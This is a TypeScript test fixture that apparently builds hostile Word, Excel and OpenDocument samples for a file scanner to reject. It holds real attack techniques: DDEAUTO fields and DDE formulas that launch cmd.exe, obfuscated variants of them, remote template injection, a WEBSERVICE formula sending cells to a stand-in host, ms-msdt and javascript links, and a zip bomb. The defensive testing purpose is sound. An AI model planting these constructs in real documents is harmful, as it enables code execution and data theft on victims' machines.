import { constants, deflateRawSync } from 'node:zlib'
import { field, openDocument, relations, word, wordWith, workbookWith } from './active-parts.ts'
import { type HostileDocument, listed, SAID } from './refusals.ts'

const FAR = 'x'.repeat(200_000)
const link = { kind: 'hyperlink', target: 'https://terminal.example/' }
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')

/** Files of Office that do something when they are opened, instead of being read. */
export const ACTIVE_OFFICE: HostileDocument[] = [
  ...listed(SAID.external, {
    'a document with a picture of another site': word('', [
      link,
      { kind: 'image', target: 'https://mal.example/x.png' },
    ]),
    'a document with a picture of a shared folder': word('', [
      { kind: 'image', target: '\\\\mal.example\\x.png' },
    ]),
    'a document with a frame': word('', [{ kind: 'frame', target: 'https://mal.example/' }]),
    'a document with another one as its part': word('', [
      { kind: 'subDocument', target: 'otro.docx' },
    ]),
    'a document whose header has a picture of another site': wordWith({
      name: 'word/_rels/header1.xml.rels',
      content: relations({ kind: 'image', target: 'http://mal.example/x.png' }),
    }),
    'a document that takes letters from a list of people': wordWith({
      name: 'word/_rels/settings.xml.rels',
      content: relations({ kind: 'mailMergeSource', target: 'file:///C:/personas.xlsx' }),
    }),
    'a document that hides that its picture is elsewhere': word('', [
      { kind: 'image', target: 'https://mal.example/x.png', mode: '' },
    ]),
    'a document that writes it in other letters': word('', [
      { kind: 'image', target: 'x.png', mode: 'EXTERNAL' },
    ]),
    'a workbook with numbers of another one': workbookWith('[1]Hoja1!A1', {
      name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
      content: relations({ kind: 'externalLinkPath', target: 'file:///C:/otro.xlsx' }),
    }),
    'a workbook with a connection to data': workbookWith('1', {
      name: 'xl/_rels/workbook.xml.rels',
      content: relations({ kind: 'connections', target: 'connections.xml', mode: '' }),
    }),
    'a workbook with a link to an object': workbookWith('1', {
      name: 'xl/externalLinks/externalLink1.xml',
      content: '<externalLink><oleLink progId="Word.Document"/></externalLink>',
    }),
    'an open text with a picture of another site': openDocument(
      'text',
      '<draw:image xlink:href="https://mal.example/x.png"/>',
    ),
    'an open text with a section of another file': openDocument(
      'text',
      '<text:section-source xlink:href="../otro.odt"/>',
    ),
    'an open spreadsheet with a sheet of another file': openDocument(
      'spreadsheet',
      '<table:table-source xlink:href="file:///C:/otro.ods"/>',
    ),
  }),
  ...listed(SAID.template, {
    'a document with a template of another site': wordWith({
      name: 'word/_rels/settings.xml.rels',
      content: relations({ kind: 'attachedTemplate', target: 'https://mal.example/x.dotm' }),
    }),
    'a document with a template of its own computer': wordWith({
      name: 'word/_rels/settings.xml.rels',
      content: relations({ kind: 'attachedTemplate', target: 'file:///C:/x.dotx' }),
    }),
    'a document with a template, in two bytes a letter': wordWith({
      name: 'word/_rels/settings.xml.rels',
      content: utf16(relations({ kind: 'attachedTemplate', target: 'x.dotm' })),
    }),
    'an open text with a template of another site': openDocument('text', '', [
      {
        name: 'meta.xml',
        content: '<meta><meta:template xlink:href="https://mal.example/x.ott"/></meta>',
      },
    ]),
  }),
  ...listed(SAID.asksPrograms, {
    'a document with a field that starts a program': word(
      field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '),
    ),
    'a document whose field comes in pieces': word(field(' DD', 'EAU', 'TO c:\\\\cmd.exe')),
    'a document whose field is written with numbers': word(field('&#68;&#x44;E c:\\\\cmd.exe')),
    'a document whose field is in another field': word(
      field(
        ' QUOTE ',
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>dde x y',
      ),
    ),
    'a document with a short field': word('<w:fldSimple w:instr=" DDE cmd x "/>'),
    'a document whose footer has the field': wordWith({
      name: 'word/footer1.xml',
      content: field('DDE x'),
    }),
    'a document whose field stands in a part of another name': wordWith({
      name: 'word/datos.bin',
      content: field('DDE x'),
    }),
    'a document whose field is in two bytes a letter': word(
      utf16(`<w:document>${field('DDE x')}</w:document>`),
    ),
    'a document whose field is in two bytes a letter, turned around': word(
      Buffer.from(`<w:document>${field('DDE x')}</w:document>`, 'utf16le').swap16(),
    ),
    'a document whose field comes after megabytes': word(
      `<w:t>${FAR.repeat(20)}</w:t>${field('DDE x')}`,
    ),
    'a workbook with a formula that starts a program': workbookWith(`cmd|'/C calc'!A0`),
    'a workbook with such a formula, disguised': workbookWith(`cmd&#124;'/C calc'!A0`),
    'a workbook with such a name': workbookWith('1', {
      name: 'xl/nombres.xml',
      content: `<workbook><definedName>cmd|'/C x'!A0</definedName></workbook>`,
    }),
    'a workbook with a link to a program': workbookWith('1', {
      name: 'xl/externalLinks/externalLink1.xml',
      content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
    }),
    'a workbook that sends its cells away': workbookWith(
      '_xlfn.WEBSERVICE("https://mal.example/?"&amp;A1)',
    ),
    'a workbook that calls a library': workbookWith('CALL("Shell32","ShellExecuteA","JJCCCJJ")'),
    'an open spreadsheet with a formula that asks a program': openDocument(
      'spreadsheet',
      '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/>',
    ),
    'an open text that asks a program': openDocument(
      'text',
      '<text:dde-connection-decl office:dde-application="cmd"/>',
    ),
  }),
  ...listed(SAID.fields, {
    'a document with a text of another place': word(
      field(' INCLUDETEXT "https://mal.example/x.docx" '),
    ),
    'a document with a picture of another place in a field': word(
      field(' INCLUDEPICTURE "http://mal.example/x.png" \\d '),
    ),
    'a document with a link to a workbook': word(field(' LINK Excel.Sheet.12 "C:\\\\x.xlsx" ')),
  }),
  ...listed(SAID.embedded, {
    'a document with an object inside': word('<o:OLEObject Type="Embed" ProgID="Package"/>'),
    'a document with an object, by its relation': word('', [
      { kind: 'oleObject', target: 'embeddings/oleObject1.bin', mode: '' },
    ]),
    'a document with a whole workbook inside': word('', [
      { kind: 'package', target: 'embeddings/x.xlsx', mode: '' },
    ]),
    'a document with a page inside': word('<w:altChunk r:id="rId1"/>', [
      { kind: 'aFChunk', target: 'x.mht', mode: '' },
    ]),
    'a workbook with an object inside': workbookWith('1', {
      name: 'xl/hoja.xml',
      content: '<worksheet><oleObjects><oleObject progId="Package"/></oleObjects></worksheet>',
    }),
    'an open text with an object inside': openDocument(
      'text',
      '<draw:object-ole xlink:href="./Object 1"/>',
    ),
    'an open text with a program of a browser': openDocument(
      'text',
      '<draw:plugin xlink:href="x.swf"/>',
    ),
    'an open text with a page in a frame': openDocument(
      'text',
      '<draw:floating-frame xlink:href="https://mal.example/"/>',
    ),
  }),
  ...listed(SAID.macros, {
    'a document with a control, by its relation': word('', [
      { kind: 'control', target: 'x.xml', mode: '' },
    ]),
    'a workbook with a sheet of macros': workbookWith('1', {
      name: 'xl/_rels/workbook.xml.rels',
      content: relations({ kind: 'xlMacrosheet', target: 'x.xml', mode: '' }),
    }),
    'a document with a program of a store': word('', [
      { kind: 'webextensiontaskpanes', target: 'x.xml', mode: '' },
    ]),
    'an open text that runs a macro when it opens': openDocument(
      'text',
      '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>',
    ),
    'an open text with a script in its text': openDocument(
      'text',
      '<text:script script:language="JavaScript">x</text:script>',
    ),
  }),
  ...listed(SAID.runningLink, {
    'a document with a link that is a program': word('', [
      { kind: 'hyperlink', target: 'javascript:alert(1)' },
    ]),
    'a document with a link that opens a tool of Windows': word('', [
      { kind: 'hyperlink', target: 'ms-msdt:/id PCWDiagnostic' },
    ]),
    'an open text with a link that is a macro': openDocument(
      'text',
      '<text:a xlink:href="vnd.sun.star.script:x$y?language=Basic"/>',
    ),
  }),
  ...listed(SAID.damaged, {
    'a document whose relations are no XML': wordWith({
      name: 'word/_rels/document.xml.rels',
      content: '<Relationships><Relationship',
    }),
    'a document that ends in the middle': word(Buffer.from('<w:document><w:body>')),
  }),
  ...listed(SAID.bomb, {
    'a document that has more than it says, and no end': wordWith({
      name: 'word/a.xml',
      packed: endless(270),
      bytes: 1_000,
    }),
  }),
]

/** So many megabytes of nothing, in a few kilobytes. */
function endless(megabytes: number): Buffer {
  const flush = { finishFlush: constants.Z_FULL_FLUSH }
  const nothing = deflateRawSync(Buffer.alloc(1024 * 1024, ' '), flush)
  const start = deflateRawSync('<a>', flush)
  return Buffer.concat([
    start,
    ...Array.from({ length: megabytes }, () => nothing),
    deflateRawSync('</a>'),
  ])
}
